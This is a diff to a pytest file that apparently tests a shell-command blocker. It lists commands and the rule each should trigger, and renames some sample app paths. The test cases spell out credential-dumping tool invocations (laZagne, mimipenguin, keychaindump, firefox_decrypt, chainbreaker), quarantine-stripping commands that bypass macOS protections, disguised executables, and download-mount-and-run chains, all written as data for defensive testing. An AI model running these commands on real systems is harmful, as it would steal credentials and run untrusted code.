@@ -121,7 +121,7 @@ def test_ordinary_dotfiles_are_not_blocked(command: str, allowed: bool) -> None:
 @pytest.mark.parametrize(("command", "rule"), [
     ("python3 laZagne.py all -oJ", "block.shell.credential-dump"),
     ("sudo python mimipenguin.py", "block.shell.credential-dump"),
-    ("sudo ./mimipenguin.sh", "block.shell.credential-dump"),
+    ("sudo bash ./mimipenguin.sh --json", "block.shell.credential-dump"),
     ("ruby keychaindump.rb ~/Library/Keychains/login.keychain-db", "block.shell.credential-dump"),
     ("python3 firefox_decrypt.py ~/.mozilla/firefox/abc.default", "block.shell.credential-dump"),
     ("python3 -m chainbreaker --dump-keychain-password-hash ~/Library/Keychains/work.keychain-db",
@@ -212,7 +212,7 @@ def test_hardware_checks_that_gate_nothing_pass(command: str, allowed: bool) -> 
     ("dex ~/Downloads/invoice.pdf.desktop", "block.shell.remote-code-exec"),
     ("./report.pdf.command", "block.shell.remote-code-exec"),
     ("xdg-open ./invoice_\u202efdp.desktop", "block.shell.remote-code-exec"),  # the name reverses its direction
-    ("xattr -c ~/Downloads/Tool.app && open ~/Downloads/Tool.app", "block.shell.defense-evasion"),
+    ("xattr -c ~/Downloads/Renamer.app && open ~/Downloads/Renamer.app", "block.shell.defense-evasion"),
     ("xattr -d com.apple.quarantine ./notarize-me && ./notarize-me", "block.shell.defense-evasion"),
     ("wget -O /tmp/i.iso https://dl.example.net/i.iso && sudo mount -o loop /tmp/i.iso /mnt/i && /mnt/i/install.sh",
      "block.shell.remote-code-exec"),
@@ -237,8 +237,8 @@ def test_disguised_or_unchecked_programs_run_block(command: str, rule: str) -> N
     ("open ~/Downloads/backup.sql.gz", True),
     ("xdg-open report.final.pdf", True),
     ("open photo.jpg", True),
-    ("xattr -l ~/Downloads/Tool.app && open ~/Downloads/Tool.app", False),
-    ("xattr -dr com.apple.quarantine /Applications/Tool.app", False),  # asks, as before
+    ("xattr -l ~/Downloads/Renamer.app && open ~/Downloads/Renamer.app", False),
+    ("xattr -dr com.apple.quarantine /Applications/Renamer.app", False),  # asks, as before
     ("hdiutil attach ~/Downloads/Tool.dmg && cp -R /Volumes/Tool/Tool.app /Applications/", False),
     ("sudo mount -o loop ubuntu.iso /mnt && ls /mnt", False),
     ("curl -Lo ~/Downloads/x.dmg https://dl.example.net/x.dmg && open ~/Downloads/x.dmg", True),
